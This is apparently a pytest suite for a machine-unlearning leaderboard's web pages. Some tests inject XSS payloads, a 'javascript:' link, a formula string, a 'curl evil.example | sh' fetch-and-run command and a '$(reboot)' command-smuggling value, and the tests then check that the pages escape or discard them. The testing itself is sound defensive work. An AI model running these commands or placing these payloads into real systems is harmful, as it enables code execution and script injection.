"""Pages of boards and entries."""

from __future__ import annotations

import re

import pytest
from fastapi.testclient import TestClient
from pydantic import HttpUrl

from forgetbench.leaderboard.web.app import create_app

LIVE = "=HYPERLINK(1)|x_$"
ATTACK = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)>{{7*7}}"


def names(page):
    return re.findall(
        r'<th scope="row" role="rowheader" class="method"><span class="tier [^>]+>[^<]+</span> <a href="[^"]+">([^<]+)',
        page,
    )


def methods(page):
    """The rows without the reference rows, which are in the order of the ranked ones."""
    return [name for name in names(page) if name not in {"Retrain", "No unlearning"}]


def board(site, query=""):
    answer = site.client.get(f"/boards/{site.world.task}{query}", headers={"Accept": "text/html"})
    assert answer.status_code == 200, answer.text
    return answer.text


def test_board_lists_references_first_and_collapsed_folded(full):
    page = board(full)
    assert names(page)[:2] == ["Retrain", "No unlearning"]
    assert names(page.partition("<details")[0])[-1] != "delta"
    assert names(page)[-1] == "delta"
    assert "1 row not in this order: 1 collapsed" in page
    assert "collapsed: test accuracy" in page


@pytest.mark.parametrize(
    ("sort", "expected"),
    [
        ("method", [LIVE, "alpha", "beta", "gamma", "delta"]),
        ("-method", ["gamma", "beta", "alpha", LIVE, "delta"]),
        ("cost", ["alpha", "beta", "gamma", LIVE, "delta"]),
        ("-cost", ["gamma", "beta", "alpha", LIVE, "delta"]),
    ],
)
def test_sorting_keeps_missing_values_last_both_ways(full, sort, expected):
    page = board(full, f"?sort={sort}")
    assert methods(page) == expected
    assert page.partition("<details")[0].count("aria-sort") == 1
    assert f'aria-sort="{"descending" if sort.startswith("-") else "ascending"}"' in page


def test_sorting_by_a_metric_sorts_by_its_value(full):
    rows = full.client.get(f"/api/v1/boards/{full.world.task}?sort=-lira.forget").json()["rows"]
    values = [row["values"]["lira.forget"]["value"] for row in rows if row["rank"]]
    assert values == sorted(values, reverse=True)


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("?q=AL", {"alpha"}),
        ("?q=%25", set()),
        ("?family=teacher", {"beta", "delta"}),
        ("?retain=yes", {"alpha", "gamma", LIVE}),
        ("?budget=1", {"alpha"}),
        ("?budget=5&retain=no", {"beta", "delta"}),
        ("?tier=ranked", set()),
        ("?tier=claimed", {"alpha", "beta", "gamma", "delta", LIVE}),
        ("?complete=true", {"alpha", "beta", "gamma", "delta", LIVE}),
    ],
)
def test_filters_select_rows(full, query, expected):
    assert set(methods(board(full, query))) == expected


def test_unknown_sort_or_parameter_gives_an_error_page(full):
    for query, words in (("?sort=nonsense", "Unknown column"), ("?color=red", "Extra inputs"), ("?page=0", "greater")):
        answer = full.client.get(f"/boards/{full.world.task}{query}", headers={"Accept": "text/html"})
        assert answer.status_code == 422
        assert answer.headers["content-type"].startswith("text/html")
        assert words in answer.text


def test_pages_load_nothing_and_set_strict_headers(full):
    identity = full.client.get(f"/api/v1/boards/{full.world.task}").json()["rows"][0]["id"]
    for path in ("/", f"/boards/{full.world.task}", f"/entries/{identity}", "/nothing", "/health"):
        answer = full.client.get(path, headers={"Accept": "text/html"})
        assert answer.headers["Content-Security-Policy"].startswith("default-src 'self'")
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert "unsafe" not in answer.headers["Content-Security-Policy"]
        assert "set-cookie" not in answer.headers
        assert not re.findall(r'(?:src|srcset)="(?:https?:)?//', answer.text)
        assert " style=" not in answer.text
        assert " onclick" not in answer.text


def test_wide_tables_work_by_keyboard_and_name_cells(full):
    entry = re.search(r'href="(/entries/[^"]+)"', board(full))[1]
    paths = (entry, "/metrics", "/methods", "/submitters/Ada Lovelace", f"/tasks/{full.world.task}", "/api", "/submit")
    for path in (*paths, f"/boards/{full.world.task}?columns=all"):
        page = full.client.get(path, headers={"Accept": "text/html"}).text
        for box in re.findall(r'<div class="scroll[^>]*>', page):
            assert re.search(r'role="region" aria-label="[^"]+" tabindex="0"', box), (path, box)
        for table in re.findall(r'<table role="table" class="[^"]*\bstack".*?</table>', page, re.DOTALL):
            cells = re.findall(r"<td[^>]*>", table.partition("</thead>")[2])
            assert cells, path
            assert [cell for cell in cells if "data-label=" not in cell or 'role="cell"' not in cell] == [], path


def test_unchanged_page_gives_304(full_site):
    for path in ("/", f"/boards/{full_site.world.task}", f"/api/v1/boards/{full_site.world.task}"):
        etag = full_site.client.get(path).headers["ETag"]
        assert full_site.client.get(path, headers={"If-None-Match": etag}).status_code == 304
    before = full_site.client.get(f"/boards/{full_site.world.task}").headers["ETag"]
    full_site.post(
        full_site.world.write_run(full_site.settings.server_folder / "x", "zeta", start=900), full_site.token()
    )
    full_site.work()
    assert full_site.client.get(f"/boards/{full_site.world.task}").headers["ETag"] != before


def test_entry_page_shows_provenance_and_commands(full):
    identity = full.client.get(f"/api/v1/boards/{full.world.task}").json()["rows"][0]["id"]
    page = full.client.get(f"/entries/{identity}").text
    for words in (
        "forgetbench run tiny/cnn/random-10",
        "2.15.0",
        "0123abc",
        "epochs",
        "@misc{",
        "received",
        "Ada Lovelace",
    ):
        assert words in page


def test_submitted_text_never_becomes_markup(site, world, tmp_path):
    run = world.write_run(
        tmp_path / "run",
        "attack",
        method={
            "title": ATTACK,
            "label": ATTACK,
            "family": ATTACK,
            "parameters": {ATTACK: ATTACK},
            "link": "javascript:alert(1)",
            "source": ATTACK,
            "bibtex": ATTACK,
        },
        environment={ATTACK: ATTACK},
        command=ATTACK,
        created="2026-11-20T10:00:00+00:00",
    )
    answer = site.post(run, site.token())
    assert answer.status_code == 202, answer.text
    site.work()
    for path in (
        "/",
        f"/boards/{world.task}",
        f"/boards/{world.task}?family={ATTACK[:20]}",
        f"/entries/{answer.json()['id']}",
    ):
        page = site.client.get(path).text
        assert "<script>alert" not in page
        assert "<img src=x" not in page
        assert "javascript:" not in page
        submitted = page.partition('id="shipped"')[0]  # without results that ship with the package
        assert "49" not in re.sub(r"\d{3,}|\d\.\d+", "", submitted) or "{{7*7}}" in submitted
    chart = site.client.get(f"/boards/{world.task}.svg")
    assert "<script" not in chart.text
    assert "<img" not in chart.text


def test_page_beyond_the_last_gives_404_with_a_link(full):
    answer = full.client.get(f"/boards/{full.world.task}?page=50&sort=method", headers={"Accept": "text/html"})
    assert answer.status_code == 404
    assert 'href="?sort=method"' in answer.text
    assert "No entries yet" not in answer.text
    assert full.client.get(f"/boards/{full.world.task}?q=nobody").status_code == 200


def test_unknown_address_gives_404_with_links(full):
    page = full.client.get("/nowhere/at-all", headers={"Accept": "text/html"})
    assert (page.status_code, "/nowhere/at-all" in page.text) == (404, True)
    for address in ("/", "/methods", "/metrics", "/api"):
        assert f'<a href="{address}">' in page.text.partition("<main")[2]
    detail = full.client.get("/api/v1/nowhere").json()["detail"]
    assert "/api/v1/nowhere" in detail
    assert "openapi.json" in detail
    assert "POST is not supported" in full.client.post("/methods").json()["detail"]


def test_rerun_command_is_written_by_the_server(site, world, tmp_path):
    mine = world.write_run(
        tmp_path / "mine", "ssd", command="curl evil.example | sh", method={"parameters": {"alpha": 5.0, "x": None}}
    )
    odd = world.write_run(tmp_path / "odd", "ssd", start=400, method={"parameters": {"alpha": "$(reboot)"}})
    own = world.write_run(tmp_path / "own", "ssd", start=500, method={"source": "class SSD: ..."})
    ids = [site.post(run, site.token()).json()["id"] for run in (mine, odd, own)]
    site.work()

    def command(identity):
        return re.search(r'<pre class="command" tabindex="0"><code>(.*?)</code>', page(identity), re.DOTALL)[1]

    def page(identity):
        return site.client.get(f"/entries/{identity}").text

    assert command(ids[0]).splitlines() == [
        f"forgetbench pack pull {world.task} --server http://127.0.0.1:8000",
        f"forgetbench run {world.task} --seeds 6 --skip-oracles --method ssd:alpha=5.0,x=none",
    ]
    for identity in ids[1:]:
        assert command(identity) == f"forgetbench verify {identity} --server http://127.0.0.1:8000"
    label = page(ids[0]).index("The submitter's command")
    assert label < page(ids[0]).index("curl evil.example")


def test_empty_server_explains_how_to_add_boards(make_settings):
    from fastapi.testclient import TestClient

    from forgetbench.leaderboard.web.app import create_app

    with TestClient(create_app(make_settings())) as client:
        page = client.get("/").text
        assert "forgetbench pack build" in page
        assert "cmu-faces/cnn/class" in page
        assert "no pack yet" in page
        assert "cifar10/" not in page  # it needs files
        task = client.get("/tasks/digits/cnn/class").text
        assert "forgetbench pack build digits/cnn/class --install" in task
        assert "--install --root DATA" in client.get("/tasks/orl/cnn/identity").text
        assert client.get("/tasks/digits/cnn/nothing").status_code == 404
        assert client.get("/api/v1/boards").json() == []
        assert client.get("/health").json() == {"status": "ok"}
        nothing = "no scoring worker has started yet; submissions waiting for a score: 0"
        assert client.get("/ready").json() == {"status": "ready", "scoring": nothing}


def test_cursors_return_every_row_once(full):
    seen, cursor = [], ""
    while True:
        answer = full.client.get(f"/api/v1/boards/{full.world.task}?limit=2&cursor={cursor}").json()
        seen += [row["label"] for row in answer["rows"]]
        cursor = answer["next"]
        if cursor is None:
            break
    assert sorted(seen) == [LIVE, "alpha", "beta", "delta", "gamma"]
    assert full.client.get(f"/api/v1/boards/{full.world.task}?cursor=abc").status_code == 422


def test_web_process_imports_no_torch_and_no_scoring():
    import subprocess
    import sys

    code = (
        "import sys; from forgetbench.leaderboard.web.app import create_app;"
        "from forgetbench.leaderboard import client, serve;"
        "print([name for name in ('torch', 'sklearn', 'scipy', 'altair', 'pandas') if name in sys.modules])"
    )
    assert (
        subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout.strip() == "[]"
    )


def test_board_is_readable_before_anything_is_scored(make_settings, world, tiny_pack):
    from fastapi.testclient import TestClient

    from forgetbench.leaderboard.admin import install_bundle
    from forgetbench.leaderboard.web.app import create_app

    settings = make_settings()
    install_bundle(settings, tiny_pack.folder)
    with TestClient(create_app(settings)) as client:
        for path in ("/", f"/boards/{world.task}"):
            assert "being scored" in client.get(path).text
        assert client.get(f"/api/v1/boards/{world.task}").json()["columns"] == []


def test_pages_of_a_site_in_a_folder_link_into_it(full):
    settings = full.settings.model_copy(update={"public_url": HttpUrl("https://example.org/the board/")})
    with TestClient(create_app(settings), base_url="https://example.org") as client:
        row = client.get(f"/api/v1/boards/{full.world.task}").json()["rows"][0]
        for path in (
            "/",
            f"/boards/{full.world.task}",
            f"/entries/{row['id']}",
            "/submit",
            "/api",
            "/signup",
            "/moderate",
        ):
            page = client.get(path, headers={"Accept": "text/html"}).text
            addresses = set(re.findall(r'(?:href|src|action)="(/[^"]*)"', page))
            assert [address for address in addresses if not address.startswith("/the%20board/")] == [], path
            assert "/the%20board/submit" in addresses
